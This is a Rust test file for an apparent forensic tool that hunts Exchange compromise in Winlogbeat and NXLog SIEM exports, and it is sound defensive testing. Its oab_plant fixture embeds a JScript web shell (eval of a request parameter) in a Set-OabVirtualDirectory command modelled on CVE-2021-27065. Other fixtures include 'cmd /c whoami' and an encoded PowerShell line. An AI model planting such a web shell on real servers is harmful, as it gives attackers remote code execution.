//! The event half of the hunt on SIEM exports written here: a Winlogbeat export and an NXLog export of the same kind
//! of event give the same findings; findings per rule are capped per file and per host with the rest counted, so a
//! flood of matches cannot grow memory without bound; the events join the story of the host.

use exhunt_hunt::evidence::{self, OpenOptions};
use exhunt_hunt::hunt::{Engines, HuntOptions, hunt_host};
use exhunt_kb::Kb;
use exhunt_model::{HostVerdict, Stage};
use std::path::Path;

/// A Sysmon 1 event of `w3wp.exe` starting `cmd.exe`, as Winlogbeat ships it.
fn winlogbeat(record: u64, minute: u64) -> String {
    serde_json::json!({
        "@timestamp": format!("2021-03-03T{:02}:{:02}:00.000Z", 10 + minute / 60, minute % 60),
        "host": { "name": "ex01.contoso.test" },
        "winlog": {
            "event_id": 1,
            "channel": "Microsoft-Windows-Sysmon/Operational",
            "provider_name": "Microsoft-Windows-Sysmon",
            "computer_name": "ex01.contoso.test",
            "record_id": record,
            "event_data": {
                "Image": "C:\\Windows\\System32\\cmd.exe",
                "CommandLine": format!("cmd /c whoami & echo {record}"),
                "ParentImage": "c:\\windows\\system32\\inetsrv\\w3wp.exe",
                "User": "NT AUTHORITY\\SYSTEM"
            }
        }
    })
    .to_string()
}

/// The same kind of event as NXLog writes it (flat, with a zoned `@timestamp`).
fn nxlog(record: u64) -> String {
    serde_json::json!({
        "EventID": 1,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "SourceName": "Microsoft-Windows-Sysmon",
        "Hostname": "ex01.contoso.test",
        "RecordNumber": record,
        "@timestamp": "2021-03-04T08:00:00Z",
        "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "CommandLine": "powershell -enc AAAA",
        "ParentImage": "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
        "User": "NT AUTHORITY\\SYSTEM"
    })
    .to_string()
}

/// MSExchange Management event 1: the CVE-2021-27065 plant, as Winlogbeat ships unnamed Data items (`param1..N`).
fn oab_plant() -> String {
    serde_json::json!({
        "@timestamp": "2021-03-03T09:58:00.000Z",
        "winlog": {
            "event_id": 1,
            "channel": "MSExchange Management",
            "provider_name": "MSExchange CmdletLogs",
            "computer_name": "ex01.contoso.test",
            "record_id": 77,
            "event_data": {
                "param1": "Set-OabVirtualDirectory",
                "param2": "-ExternalUrl 'http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"k\"],\"unsafe\");}</script>' -Identity 'EX01\\OAB (Default Web Site)'",
                "param3": "NT AUTHORITY\\SYSTEM"
            }
        }
    })
    .to_string()
}

fn write(dir: &Path, rel: &str, lines: &[String]) {
    let p = dir.join(rel);
    std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
    std::fs::write(p, lines.join("\n") + "\n").expect("write");
}

#[test]
fn exports_are_hunted_capped_and_told() {
    let tmp = tempfile::tempdir().expect("tmp");
    let root = tmp.path().join("C");
    // Five Winlogbeat files of 100 matching events each (500 matches), one NXLog file with 3.
    for f in 0..5u64 {
        let lines: Vec<String> = (0..100).map(|i| winlogbeat(f * 1000 + i, f * 5 + i % 5)).collect();
        write(&root, &format!("SIEM/winlogbeat-{f}.ndjson"), &lines);
    }
    write(&root, "SIEM/nxlog.json", &(1..=3).map(nxlog).collect::<Vec<_>>());
    write(&root, "SIEM/exchange.jsonl", &[oab_plant()]);

    let kb = Kb::builtin();
    let (engines, _) = Engines::new(&kb);
    let src = evidence::open(&root, &OpenOptions { drive: Some('C'), ..OpenOptions::default() }).expect("open");
    let mut opts = HuntOptions::default();
    opts.window[0] = exhunt_model::Timestamp::parse_rfc3339("2021-01-01T00:00:00Z").expect("t");
    let r = hunt_host(src.as_ref(), &engines, &opts, &|_| {});

    // The host is named from the events' computer.
    assert_eq!(r.report.host, "EX01");
    let shells: Vec<_> = r.findings.iter().filter(|f| f.rule == "EXH-LOG-0115").collect();
    // 50 per file (MAX_PER_RULE_FILE) from each of the five Winlogbeat files would be 250; the host cap keeps 200,
    // plus the NXLog file's 3 (in whichever order the files were read, 200 in all), and counts the rest.
    assert_eq!(shells.len(), 200, "capped per host");
    let more: u64 = shells.iter().filter_map(|f| f.details.get("more").and_then(|v| v.as_u64())).sum();
    assert_eq!(shells.len() as u64 + more, 503, "every match is kept or counted");
    // Both shippers' events are read into the same fields.
    let from_nx = shells.iter().filter(|f| f.evidence[0].path.ends_with("nxlog.json")).count();
    let from_wb = shells.iter().filter(|f| f.evidence[0].path.contains("winlogbeat-")).count();
    assert_eq!(from_nx + from_wb, 200);
    for f in &shells {
        assert_eq!(f.details["source"], "evtx:Microsoft-Windows-Sysmon/Operational");
        assert!(f.time.is_some(), "every event keeps its time");
    }
    // Coverage: one export source, the channel, records counted, the key channels that are missing named.
    let ev = r.report.coverage.iter().find(|c| c.source == "event-logs").expect("coverage");
    assert_eq!((ev.files, ev.records), (7, 504));
    assert!(ev.note.as_deref().is_some_and(|n| n.contains("no Security log")), "{:?}", ev.note);
    // The plant, read from the unnamed Data items through `_raw` like every reader gives it.
    let plant = r.findings.iter().find(|f| f.rule == "EXH-LOG-0024").expect("the OAB plant is found");
    assert_eq!(plant.severity, exhunt_model::Severity::Critical);
    assert_eq!(plant.details["source"], "exchange-management");
    // The story: the back door planted, then commands under the web server: used.
    let inc = r.incident.as_ref().expect("incident");
    assert_eq!(inc.stages, [Stage::Plant, Stage::Execution], "{:?}", inc.steps);
    assert_eq!(inc.steps[0].stage, Stage::Plant, "the plant comes first in time");
    assert!(inc.used);
    assert_eq!(r.report.verdict, HostVerdict::BackdoorUsed);
}

#[test]
fn a_folder_of_exports_without_a_drive_is_read_as_loose_evidence() {
    let tmp = tempfile::tempdir().expect("tmp");
    let root = tmp.path().join("siem-export");
    write(&root, "exchange.jsonl", &[oab_plant()]);
    write(&root, "notes.txt", &["collected by the SOC".to_string()]);
    // No `--drive`: the folder has no drive layout, but an export recognised by its content.
    let src = evidence::open(&root, &OpenOptions::default()).expect("loose evidence opens");
    let drives = src.drives();
    assert_eq!(drives.len(), 1);
    assert_eq!((drives[0].letter, drives[0].kind), ('C', exhunt_hunt::evidence::LayoutKind::Loose));
    let kb = Kb::builtin();
    let (engines, _) = Engines::new(&kb);
    let mut opts = HuntOptions::default();
    opts.window[0] = exhunt_model::Timestamp::parse_rfc3339("2021-01-01T00:00:00Z").expect("t");
    let r = hunt_host(src.as_ref(), &engines, &opts, &|_| {});
    let plant = r.findings.iter().find(|f| f.rule == "EXH-LOG-0024").expect("the OAB plant is found");
    assert_eq!(plant.severity, exhunt_model::Severity::Critical);

    // Nothing recognised by content (text that is not a log, JSON that is not JSON lines): still not evidence.
    let other = tmp.path().join("not-evidence");
    write(&other, "notes.txt", &["collected by the SOC".to_string()]);
    write(&other, "list.json", &["[1, 2, 3]".to_string()]);
    let err = evidence::open(&other, &OpenOptions::default()).err().expect("refused");
    assert_eq!(err.code(), "H002", "{err}");
}

#[test]
fn one_export_file_is_read_alone_as_loose_evidence() {
    let tmp = tempfile::tempdir().expect("tmp");
    write(tmp.path(), "exchange.jsonl", &[oab_plant()]);
    // A neighbour that would also be found if the whole folder were read.
    write(tmp.path(), "other.ndjson", &(0..5).map(|i| winlogbeat(i, i)).collect::<Vec<_>>());
    let src = evidence::open(&tmp.path().join("exchange.jsonl"), &OpenOptions::default()).expect("one file opens");
    assert_eq!(src.drives()[0].kind, exhunt_hunt::evidence::LayoutKind::Loose);
    let files: Vec<String> = src.walk("C:\\").filter_map(Result::ok).map(|f| f.windows_path).collect();
    assert_eq!(files, ["C:\\exchange.jsonl"], "the file alone");
    assert!(src.walk("C:\\Windows").next().is_none());
    assert!(src.find("C:\\other.ndjson").is_none(), "nothing else of its folder");
    let kb = Kb::builtin();
    let (engines, _) = Engines::new(&kb);
    let mut opts = HuntOptions::default();
    opts.window[0] = exhunt_model::Timestamp::parse_rfc3339("2021-01-01T00:00:00Z").expect("t");
    let r = hunt_host(src.as_ref(), &engines, &opts, &|_| {});
    assert!(r.findings.iter().any(|f| f.rule == "EXH-LOG-0024"), "the OAB plant is found");
    assert!(!r.findings.iter().any(|f| f.rule == "EXH-LOG-0115"), "the neighbour's events were not read");
    let ev = r.report.coverage.iter().find(|c| c.source == "event-logs").expect("coverage");
    assert_eq!(ev.files, 1);
    // A file that is no log or export is still not evidence.
    write(tmp.path(), "notes.txt", &["collected by the SOC".to_string()]);
    let err = evidence::open(&tmp.path().join("notes.txt"), &OpenOptions::default()).err().expect("refused");
    assert_eq!(err.code(), "H002", "{err}");
}
